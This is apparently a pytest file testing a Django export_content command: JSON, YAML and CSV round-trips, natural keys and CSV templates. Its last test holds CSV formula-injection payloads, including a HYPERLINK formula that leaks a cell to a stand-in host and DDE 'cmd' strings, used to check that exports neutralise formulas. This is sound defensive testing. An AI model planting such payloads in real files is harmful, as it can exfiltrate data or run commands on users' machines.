"""export_content: a copy of all content that import_content reads back, field by field."""

import csv
import datetime
import io
import json
from decimal import Decimal
from pathlib import Path

import pytest
import yaml
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.utils import timezone
from PIL import Image

from events.importing.exporting import csv_template
from events.importing.specs import registry
from events.models import (
    AwardRecipient,
    Event,
    Province,
    Sector,
    TrainingBase,
    TrainingBaseBatch,
)

from .content_io import delete_all_content, import_content, snapshot
from .factories import make_event, make_key_figure, make_milestone

pytestmark = pytest.mark.django_db

TEMPLATES = Path(__file__).parent.parent / "docs" / "csv-templates"


@pytest.fixture
def content(seed_content, settings, tmp_path):
    """The seed, plus a draft, a scheduled event, an image and rows the seed leaves empty."""
    settings.MEDIA_ROOT = tmp_path / "media"
    picture = io.BytesIO()
    Image.new("RGB", (8, 6), "white").save(picture, "PNG")
    museum = Event.objects.get(rank=7)
    museum.image = SimpleUploadedFile("museum.png", picture.getvalue(), content_type="image/png")
    museum.image_alt = "世界技能博物馆外景"
    museum.save()
    draft = make_event(slug="draft-event", year=2024, rank=1, status="draft")
    draft.regions.set(Province.objects.filter(code__in=["110000", "650000"]))
    scheduled = make_event(
        slug="scheduled-event",
        year=2024,
        rank=2,
        published_at=timezone.now() + datetime.timedelta(days=3),
        source=None,
    )
    make_milestone(
        event=scheduled,
        slug="scheduled-range",
        date=datetime.date(2024, 5, 1),
        end_date=datetime.date(2024, 12, 1),
        precision="month",
        venue="天津",
    ).regions.set(Province.objects.filter(code="120000"))
    make_key_figure(
        event=draft,
        key="approx",
        value=Decimal("9.5"),
        magnitude="万",
        qualifier="余",
        qualifier_position="after_magnitude",
        as_of=datetime.date(2024, 12, 31),
        is_headline=True,
    )
    award = Event.objects.get(rank=3).awards.first()
    AwardRecipient.objects.create(
        award=award,
        name="张三",
        organization="某厂",
        occupation="钳工",
        province=Province.objects.get(code="310000"),
    )
    base = TrainingBase.objects.get(slug="beijing-light-industry-technician-college")
    base.sectors.set(Sector.objects.filter(parent__isnull=False)[:2])
    TrainingBaseBatch.objects.filter(main_host_share=80).update(
        main_host_types=["institution", "training_org"]
    )


def export(*args):
    stdout = io.StringIO()
    call_command("export_content", *args, stdout=stdout)
    return stdout.getvalue()


def test_json_export_reimports_into_an_empty_database_field_by_field(content, tmp_path):
    before = snapshot()
    path = tmp_path / "content.json"
    call_command("export_content", "--output", str(path))

    delete_all_content()
    assert Event.objects.count() == 0
    import_content(path)

    assert snapshot() == before
    assert Event.objects.get(slug="draft-event").status == "draft"
    museum = Event.objects.get(rank=7)
    assert (museum.image.name.endswith(".png"), museum.image_width, museum.image_height) == (True, 8, 6)
    assert Event.objects.get(slug="scheduled-event").is_scheduled


def test_yaml_export_reimports_into_an_empty_database_field_by_field(content, tmp_path):
    before = snapshot()
    path = tmp_path / "content.yaml"
    path.write_text(export("--format", "yaml"), encoding="utf-8")

    delete_all_content()
    import_content(path)

    assert snapshot() == before


def test_csv_export_reimports_into_an_empty_database_field_by_field(content, tmp_path):
    before = snapshot()
    call_command("export_content", "--format", "csv", "--output", str(tmp_path))
    files = sorted(tmp_path.glob("*.csv"))
    assert [path.name for path in files][:3] == ["01_province.csv", "02_category.csv", "03_sourcearticle.csv"]

    delete_all_content()
    import_content(*files)

    assert snapshot() == before


def test_an_export_imported_again_changes_nothing(content, tmp_path):
    path = tmp_path / "content.json"
    call_command("export_content", "--output", str(path))

    stdout, _ = import_content(path)

    assert "合计                             0         0" in stdout


def test_the_json_export_uses_natural_keys_only(content):
    records = json.loads(export("--model", "milestone", "--model", "events.keyfigure"))

    assert {record["model"] for record in records} == {"events.milestone", "events.keyfigure"}
    assert all("pk" not in record for record in records)
    scheduled = next(r for r in records if r["fields"].get("slug") == "scheduled-range")
    assert scheduled["fields"]["event"] == ["scheduled-event"]
    assert scheduled["fields"]["regions"] == [["120000"]]
    assert scheduled["fields"]["end_date"] == "2024-12-01"


def test_the_yaml_export_is_one_list_of_records(content):
    records = yaml.safe_load(export("--format", "yaml", "--model", "province"))

    assert len(records) == 35
    assert records[0] == {
        "model": "events.province",
        "fields": {
            "code": "110000",
            "name": "北京市",
            "short_name": "北京",
            "slug": "beijing",
            "kind": "municipality",
            # Both languages travel together.
            "name_en": "Beijing Municipality",
            "short_name_en": "Beijing",
        },
    }


def test_a_csv_export_names_provinces_and_lists_links_in_one_cell(content):
    text = export("--format", "csv", "--model", "event")
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))

    assert list(rows[0]) == registry().get("event").columns
    draft = next(row for row in rows if row["slug"] == "draft-event")
    assert draft["regions"] == "北京市;新疆维吾尔自治区"
    assert draft["category"].startswith("category-")
    assert draft["status"] == "draft"


def test_an_empty_database_exports_an_empty_list(db):
    assert json.loads(export()) == []
    assert yaml.safe_load(export("--format", "yaml")) == []


def test_bad_options_are_clear_errors(db):
    with pytest.raises(CommandError, match="未知的内容类型「spaceship」"):
        export("--model", "spaceship")
    with pytest.raises(CommandError, match="--output 指定目录"):
        export("--format", "csv")


@pytest.mark.parametrize("spec", list(registry()), ids=lambda spec: spec.name)
def test_the_csv_template_in_the_repository_matches_the_model(spec):
    templates = {path.name.split("_", 1)[1]: path for path in TEMPLATES.glob("*.csv")}
    path = templates.get(f"{spec.name}.csv")

    assert path is not None, "regenerate: manage.py export_content --format csv --empty -o docs/csv-templates"
    assert path.read_bytes().decode("utf-8-sig") == csv_template(spec)


FORMULAS = {
    "title": '=HYPERLINK("http://example.invalid/?leak="&A1,"点此")',
    "short_title": "+cmd|' /C calc'!A0",
    "summary": "@SUM(1+1)*cmd|' /C calc'!A0",
    "body": "\t=1+1\r\n正文",
}


def test_a_csv_export_turns_formulas_into_text_and_imports_them_back_unchanged(seed_content, tmp_path):
    make_event(slug="formulas", rank=9, year=2024, **FORMULAS)
    make_milestone(slug="negative", title="-2+3", description="'=already quoted", venue="-2")
    before = snapshot()
    call_command("export_content", "--format", "csv", "--output", str(tmp_path))

    rows = {}
    for name in ("04_event.csv", "05_milestone.csv"):
        with (tmp_path / name).open(encoding="utf-8-sig", newline="") as stream:
            rows |= {row["slug"]: row for row in csv.DictReader(stream)}
    assert {name: rows["formulas"][name] for name in FORMULAS} == {
        name: "'" + value for name, value in FORMULAS.items()
    }
    assert rows["negative"]["title"] == "'-2+3"
    assert rows["negative"]["description"] == "''=already quoted"
    assert rows["negative"]["venue"] == "-2"  # a plain number is no formula

    delete_all_content()
    import_content(*sorted(tmp_path.glob("*.csv")))

    assert snapshot() == before
